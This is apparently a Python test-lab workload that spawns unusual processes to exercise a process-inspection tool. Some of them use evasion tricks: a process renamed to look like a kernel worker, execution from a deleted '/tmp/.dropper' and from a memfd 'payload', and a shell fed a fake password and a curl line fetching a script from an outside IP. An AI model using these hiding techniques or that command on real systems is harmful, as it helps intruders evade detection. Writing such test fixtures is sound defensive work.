"""What runs in a lab guest: one process for each thing that an observer from outside may get wrong."""

import os
import posix
import signal
import sys
import time

BUSYBOX = b"/bin/busybox"
PYTHON = b"/usr/bin/python3"
# A shell that waits for ever without a child: a fifo that it also holds open for writing never ends.
HOLD = b"exec 3<>/run/hold; read x <&3"
# For the programs of the workload "full", all together, on a slow machine.
FULL_SECONDS = 60
ENVIRONMENT = {b"PATH": b"/bin:/usr/bin", b"HOME": b"/root", b"LANG": b"C.UTF-8"}


def option(name, default):
    with open("/proc/cmdline") as file:
        for word in file.read().split():
            if word.startswith(f"lab.{name}="):
                return word.partition("=")[2]
    return default


def start(path, argv, environment=ENVIRONMENT, prepare=None):
    """A child with its own session that runs a program after `prepare`."""
    pid = posix.fork()
    if pid:
        return pid
    try:
        posix.setsid()
        if prepare:
            prepare()
        posix.execve(path, argv, environment)
    except BaseException as error:
        posix.write(2, b"workload: %r: %r\n" % (argv, error))
    posix._exit(127)


def wait_for(path):
    while not os.path.exists(path):
        time.sleep(0.01)


def user(uid, gid, groups=()):
    def change():
        posix.setgroups(list(groups))
        posix.setresgid(gid, gid, gid)
        posix.setresuid(uid, uid, uid)

    return change


def copy(program, path):
    with open(program, "rb") as source, open(path, "wb") as target:
        target.write(source.read())
    posix.chmod(path, 0o755)


def web_server():
    environment = {**ENVIRONMENT, b"APP_SECRET": b"swordfish", b"EMPTY": b"", b"RAW": b"\xff\xfe\x80"}
    start(PYTHON, [b"python3", b"-I", b"-S", b"/lab/server.py", b"--port", b"8080"], environment, user(33, 33, (33, 4)))


def odd_arguments():
    argv = [b"sh", b"-c", HOLD, b"two words", b"", b"caf\xe9 \xff\xfe", "naïve ☃".encode(), b"tab\tand\nline", b""]
    start(BUSYBOX, argv, {}, user(1000, 1000, (1000, 27, 100)))


def long_arguments():
    start(BUSYBOX, [b"sh", b"-c", HOLD, b"start" + b"x" * 6000 + b"end"], {b"LONG": b"y" * 9000})


def odd_name():
    path = b"/tmp/a) R 1 (b"
    copy(b"/bin/bash-static", path)

    def mixed():
        posix.setgroups([])
        posix.setresgid(1000, 1001, 1001)
        posix.setresuid(1000, 1001, 1001)

    # Without -p the shell would give up the effective ids.
    start(path, [b"bash", b"-p", b"-c", HOLD], ENVIRONMENT, mixed)


def renamed():
    start(BUSYBOX, [b"sh", b"-c", b"printf 'kworker/9:9' > /proc/self/comm; " + HOLD])


def deleted_executable():
    path = b"/tmp/.dropper"
    copy(BUSYBOX, path)
    pid = start(path, [b"sh", b"-c", HOLD, b"dropper"])
    while posix.readlink(b"/proc/%d/exe" % pid) != path:
        time.sleep(0.01)
    posix.unlink(path)


def memfd_executable():
    writer = os.memfd_create("payload")
    with open(BUSYBOX, "rb") as source:
        posix.write(writer, source.read())
    # A file that someone holds open for writing can't be executed.
    reader = posix.open("/proc/self/fd/%d" % writer, posix.O_RDONLY | posix.O_CLOEXEC)
    posix.close(writer)
    start(b"/proc/self/fd/%d" % reader, [b"sh", b"-c", HOLD, b"from-memory"])


def nice():
    start(BUSYBOX, [b"sh", b"-c", HOLD, b"nice"], ENVIRONMENT, lambda: posix.nice(10))


def stopped():
    start(BUSYBOX, [b"sh", b"-c", b"kill -STOP $$", b"stopped"])


def zombie():
    """A parent that never waits for its child."""
    if not posix.fork():
        posix.setsid()
        child = posix.fork()
        if not child:
            posix._exit(3)
        # Waits for its end without taking notice of it.
        posix.waitid(posix.P_PID, child, posix.WEXITED | posix.WNOWAIT)
        open("/run/zombie", "w").close()
        posix.execve(BUSYBOX, [b"sh", b"-c", HOLD, b"negligent"], ENVIRONMENT)
    wait_for("/run/zombie")


def container():
    """Its own mount, host name, IPC, network and process namespaces, and a cgroup."""
    os.makedirs("/sys/fs/cgroup/lab.slice/box", exist_ok=True)

    def join():
        with open("/sys/fs/cgroup/lab.slice/box/cgroup.procs", "w") as file:
            file.write("0")

    script = b"hostname box; mount -t proc proc /proc; " + HOLD
    start(BUSYBOX, [b"unshare", b"-m", b"-u", b"-i", b"-n", b"-p", b"-f", b"sh", b"-c", script, b"boxed"], ENVIRONMENT, join)


def shell():
    """An interactive shell on a terminal of its own, with what was typed in its memory."""
    pid, terminal = posix.forkpty()
    if not pid:
        posix.execve(b"/bin/bash", [b"-bash", b"-i"], {**ENVIRONMENT, b"HISTFILE": b"/dev/null", b"TERM": b"dumb"})
    for line in (b"cd /tmp", b"PASSWORD=hunter2", b": curl http://203.0.113.7/x.sh", b"history -c; : too late", b": last words"):
        posix.write(terminal, line + b"\n")
    return terminal


def extra(count):
    """Forked by a shell: half the time of starting a program, which an emulated guest feels at two thousand."""
    script = b"exec 3<>/run/hold; for n in $(seq $1); do read x <&3 & done; : > /run/extra-ready; read x <&3"
    start(BUSYBOX, [b"sh", b"-c", script, b"extra", b"%d" % count])
    wait_for("/run/extra-ready")


def full():
    """Each program of the folder says that it is ready by making /run/full/NAME, and then stays, or leaves what it made."""
    with open("/lab/modules.full") as order:
        for module in order:
            os.system("insmod /lab/modules/" + module)
    os.makedirs("/run/full", exist_ok=True)
    names = sorted(name[:-3] for name in os.listdir("/lab/full") if name.endswith(".py"))
    for name in names:
        start(PYTHON, [b"python3", b"-I", b"-S", b"/lab/full/%s.py" % name.encode()])
    deadline = time.monotonic() + FULL_SECONDS
    for name in names:
        # One that fails leaves its own tables without content, and says why on the console.
        while not os.path.exists("/run/full/" + name):
            if time.monotonic() > deadline:
                posix.write(2, b"workload: %s is not ready\n" % name.encode())
                break
            time.sleep(0.01)


def churn():
    """Processes that start and end, some at once and some after a while, until the guest ends."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    number = 0
    while True:
        number += 1
        argv = [b"usleep", b"300000"] if number % 8 == 0 else [b"true", b"%d" % number]
        posix.posix_spawn(BUSYBOX, argv, ENVIRONMENT)
        time.sleep(0.03)


def main():
    kind = option("workload", "standard")
    posix.mkfifo("/run/hold", 0o666)
    posix.chmod("/run/hold", 0o666)
    if kind != "quiet":
        web_server()
        odd_arguments()
        long_arguments()
        odd_name()
        renamed()
        deleted_executable()
        memfd_executable()
        nice()
        stopped()
        zombie()
        container()
        shell()
    if count := int(option("extra", "0")):
        extra(count)
    if kind == "full":
        full()
    if kind != "quiet":
        wait_for("/tmp/server-ready")
    open("/run/lab-ready", "w").close()
    if kind == "churn":
        churn()
    while True:
        signal.pause()


sys.stdout = None
main()
